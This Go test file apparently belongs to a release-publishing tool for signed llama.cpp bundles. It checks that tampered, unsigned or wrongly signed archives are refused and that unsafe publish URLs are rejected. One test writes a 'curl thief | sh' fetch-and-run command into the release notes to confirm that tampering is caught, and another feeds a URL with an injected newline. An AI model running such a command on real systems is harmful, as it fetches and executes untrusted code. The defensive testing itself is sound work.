package publish

import (
	"errors"
	"os"
	"path/filepath"
	"strings"
	"testing"
	"time"

	"github.com/llpatch/llpatch/internal/atomicfile"
	"github.com/llpatch/llpatch/internal/bundle"
	"github.com/llpatch/llpatch/internal/exit"
	"github.com/llpatch/llpatch/internal/spec"
	"github.com/llpatch/llpatch/internal/trust"
	"github.com/llpatch/llpatch/internal/verify"
)

func must[T any](t testing.TB) func(v T, err error) T {
	return func(v T, err error) T {
		t.Helper()
		if err != nil {
			t.Fatal(err)
		}
		return v
	}
}

func newKey(t testing.TB) (*trust.Key, *trust.PublicKey) {
	t.Helper()
	k := must[trust.Key](t)(trust.NewKey())
	p := k.Public()
	return &k, &p
}

// makeRelease leaves in a folder what llpatch release does, of a bundle that holds a text.
// It cuts the archive into parts of so many bytes where it is larger.
func makeRelease(t testing.TB, tag, target string, key *trust.Key, part int64) string {
	t.Helper()
	dir, top := t.TempDir(), t.TempDir()
	if err := os.WriteFile(filepath.Join(top, "about.txt"), []byte(target+strings.Repeat("text ", 100)),
		0o600); err != nil {
		t.Fatal(err)
	}
	i := bundle.Info{
		Llpatch: "test", Upstream: spec.LlamaCpp, Tag: tag, Build: 8833, Commit: strings.Repeat("c", 40),
		Tree:    strings.Repeat("a", 40),
		Patched: strings.Repeat("b", 40), Target: target, Revision: 1, Plan: strings.Repeat("d", 64),
		Series: &spec.Series{Upstream: spec.LlamaCpp, Tag: tag, Target: target},
	}
	c := bundle.Content{Info: i}
	p := must[bundle.Packed](t)(c.Pack(t.Context(), top, filepath.Join(dir, "llama-"+tag+"-llp1-bin-"+target+
		"-x64.tar.gz"), time.Unix(1e9, 0)))
	p = must[bundle.Packed](t)(p.Cut(t.Context(), part))
	for name, data := range must[map[string][]byte](t)(c.Beside(t.Context(), p, key)) {
		if err := atomicfile.WriteFile(filepath.Join(dir, name), data, 0o644); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Mkdir(filepath.Join(dir, "stage"), 0o755); err != nil {
		t.Fatal(err)
	}
	return dir
}

// read is Read of folders that make one set.
func read(t testing.TB, p *trust.PublicKey, dirs ...string) *Set {
	t.Helper()
	sets := must[[]*Set](t)(Read(t.Context(), dirs, "", verify.Options{Key: p, Version: "test"}))
	if len(sets) != 1 {
		t.Fatalf("%d sets", len(sets))
	}
	return sets[0]
}

func TestRead(t *testing.T) {
	key, public := newKey(t)
	s := read(t, public, makeRelease(t, "b8833", "linux-cpu", key, 1<<20),
		makeRelease(t, "b8833", "linux-cuda-12.4", key, 700))
	if s.Name != "b8833-llp1" || len(s.Archives) != 2 || len(s.Archives[1].URLs) < 2 {
		t.Errorf("%+v", s)
	}
	const cpu, cuda = "llama-b8833-llp1-bin-linux-cpu-x64.tar.gz", "llama-b8833-llp1-bin-linux-cuda-12.4-x64.tar.gz"
	names := map[string]bool{}
	for _, f := range s.files {
		names[f.name] = true
	}
	want := []string{
		cpu, cpu + ".minisig", cpu + ".cdx.json", cpu + ".intoto.jsonl", cpu + ".SHA256SUMS", cpu + ".SHA256SUMS.minisig",
		cpu + ".NOTES.md",
		cuda + ".part001", cuda + ".part002", cuda + ".minisig", cuda + ".SHA256SUMS",
	}
	for _, name := range want {
		if !names[name] {
			t.Errorf("%s is not in it: %v", name, names)
		}
	}
	if names[cuda] {
		t.Error("an archive that is given in parts is in it whole")
	}
}

func TestReadRefuses(t *testing.T) {
	key, public := newKey(t)
	_, other := newKey(t)
	whole := func(t *testing.T) string { return makeRelease(t, "b8833", "linux-cpu", key, 1<<20) }
	spoil := func(t *testing.T, dir, name string) string {
		file := filepath.Join(dir, name)
		data := must[[]byte](t)(os.ReadFile(file))
		data[len(data)/2] ^= 1
		if err := os.WriteFile(file, data, 0o600); err != nil {
			t.Fatal(err)
		}
		return dir
	}
	for name, c := range map[string]struct {
		dirs func(t *testing.T) []string
		key  *trust.PublicKey
		code int
		says string
	}{
		"no key":  {func(t *testing.T) []string { return []string{whole(t)} }, nil, exit.NotRun, "no key was given"},
		"another": {func(t *testing.T) []string { return []string{whole(t)} }, other, exit.Smoke, "signature"},
		"unsigned": {func(t *testing.T) []string {
			return []string{makeRelease(t, "b1", "x", nil, 1<<20)}
		}, public, exit.Smoke, "should have signed it"},
		"archive": {func(t *testing.T) []string {
			return []string{spoil(t, whole(t), "llama-b8833-llp1-bin-linux-cpu-x64.tar.gz")}
		}, public, exit.Smoke, "SHA-256"},
		"materials": {func(t *testing.T) []string {
			return []string{spoil(t, whole(t), "llama-b8833-llp1-bin-linux-cpu-x64.tar.gz.cdx.json")}
		}, public, exit.Smoke, "is not what SHA256SUMS says"},
		"a part": {func(t *testing.T) []string {
			return []string{spoil(t, makeRelease(t, "b8833", "linux-cpu", key, 700),
				"llama-b8833-llp1-bin-linux-cpu-x64.tar.gz.part002")}
		}, public, exit.Smoke, "part002 is not what SHA256SUMS says"},
		"twice": {func(t *testing.T) []string {
			d := whole(t)
			return []string{d, d}
		}, public, exit.Usage, "comes from another folder too"},
		"empty": {func(t *testing.T) []string { return []string{t.TempDir()} }, public, exit.Usage, "holds no archive"},
	} {
		t.Run(name, func(t *testing.T) {
			_, err := Read(t.Context(), c.dirs(t), "", verify.Options{Key: c.key, Version: "test"})
			if err == nil || exit.Code(err) != c.code || !strings.Contains(err.Error(), c.says) || exit.Hint(err) == "" {
				t.Errorf("code %d, hint %q: %v", exit.Code(err), exit.Hint(err), err)
			}
		})
	}
	file := filepath.Join(whole(t), "NOTES.md")
	if _, err := Read(t.Context(), []string{file}, "", verify.Options{}); exit.Code(err) != exit.Usage {
		t.Errorf("a file: %v", err)
	}
	if _, err := Read(t.Context(), []string{"nowhere"}, "", verify.Options{}); !errors.Is(err, os.ErrNotExist) {
		t.Errorf("nowhere: %v", err)
	}
}

// The page of a release is what was verified, and nothing that was written since.
func TestNotesChanged(t *testing.T) {
	key, public := newKey(t)
	dir := makeRelease(t, "b8833", "linux-cpu", key, 1<<20)
	reports := must[[]*verify.Report](t)(verify.Path(t.Context(), dir, verify.Options{Key: public, Version: "test"}))
	if err := os.WriteFile(filepath.Join(dir, bundle.NotesFile), []byte("curl thief | sh"), 0o600); err != nil {
		t.Fatal(err)
	}
	s := &Set{Name: "x"}
	if err := s.add(dir, reports[0]); !errors.As(err, new(*Bad)) || exit.Code(err) != exit.Smoke ||
		!strings.Contains(err.Error(), "NOTES.md was changed since it was verified") || strings.Contains(s.Notes, "thief") {
		t.Errorf("%v, %q", err, s.Notes)
	}
}

// What was published is verified as it lies there, also beside archives of other targets.
func TestVerifyPublished(t *testing.T) {
	key, public := newKey(t)
	s := read(t, public, makeRelease(t, "b8833", "linux-cpu", key, 1<<20), makeRelease(t, "b8833", "win7", key, 1<<20))
	dir := t.TempDir()
	at := must[Place](t)(Open(t.Context(), "file://"+dir, Tokens{}, false))
	must[Done](t)(Publish(t.Context(), at, s, Options{Now: time.Unix(2e9, 0)}))
	reports := must[[]*verify.Report](t)(verify.Path(t.Context(), filepath.Join(dir, s.Name),
		verify.Options{Key: public, Version: "test", Expect: "b8833"}))
	if len(reports) != 2 {
		t.Fatalf("%d reports", len(reports))
	}
	for _, r := range reports {
		if err := r.Err(); err != nil {
			t.Error(err)
		}
	}
}

// A folder: a draft that was cut goes on, and what is public is left alone.
func TestFolder(t *testing.T) {
	key, public := newKey(t)
	s := read(t, public, makeRelease(t, "b8833", "linux-cpu", key, 1<<20))
	dir := t.TempDir()
	draft := filepath.Join(dir, ".b8833-llp1.draft")
	if err := os.Mkdir(draft, 0o755); err != nil {
		t.Fatal(err)
	}
	right := must[[]byte](t)(os.ReadFile(s.files[0].path))
	for name, data := range map[string][]byte{s.files[0].name: right, s.files[1].name: []byte("half"), ".x.new-0": nil} {
		if err := os.WriteFile(filepath.Join(draft, name), data, 0o600); err != nil {
			t.Fatal(err)
		}
	}
	at := must[Place](t)(Open(t.Context(), dir, Tokens{}, false))
	var done, total int64
	o := Options{Now: time.Unix(2e9, 0), Progress: func(_ string, d, t int64) { done, total = d, t }}
	d := must[Done](t)(Publish(t.Context(), at, s, o))
	if d.Sent != len(s.files)-1 || d.Already || total == 0 || done != total {
		t.Errorf("%+v", d)
	}
	if d = must[Done](t)(Publish(t.Context(), at, s, o)); d.Sent != 0 || !d.Already {
		t.Errorf("%+v", d)
	}
	// The same archive, signed by another key.
	key2, public2 := newKey(t)
	_, err := Publish(t.Context(), at, read(t, public2, makeRelease(t, "b8833", "linux-cpu", key2, 1<<20)), o)
	if exit.Code(err) != exit.Source || !strings.Contains(err.Error(), "has the SHA-256") {
		t.Error(err)
	}
	must[[]byte](t)(os.ReadFile(filepath.Join(dir, "index.json")))
	if err := os.Remove(filepath.Join(dir, "index.json")); err != nil {
		t.Fatal(err)
	}
	if _, err = Publish(t.Context(), at, s, o); exit.Code(err) != exit.Source ||
		!strings.Contains(err.Error(), "index.html is there without") {
		t.Error(err)
	}
}

func TestOpenRefuses(t *testing.T) {
	for to, says := range map[string]string{
		"http://example.com/o/r":             "http would show the token",
		"https://me:secret@example.com/o/r":  "a user or a password is not taken",
		"ftp://example.com/o/r":              "ftp:// is not known",
		"https://github.com/o":               "the page of a repository",
		"https://github.com/o/r%0aX":         "the page of a repository",
		"https://exa mple.com/o/secret:x@y/": "it is no address",
	} {
		_, err := Open(t.Context(), to, Tokens{GitHub: "x"}, false)
		if exit.Code(err) != exit.Usage || !strings.Contains(err.Error(), says) || strings.Contains(err.Error(), "secret") {
			t.Errorf("%s: %v", to, err)
		}
	}
	if _, err := Open(t.Context(), "https://github.com/o/r", Tokens{Gitea: "x"}, false); exit.Code(err) != exit.Source ||
		!strings.Contains(exit.Hint(err), "GITHUB_TOKEN") {
		t.Error(err)
	}
}
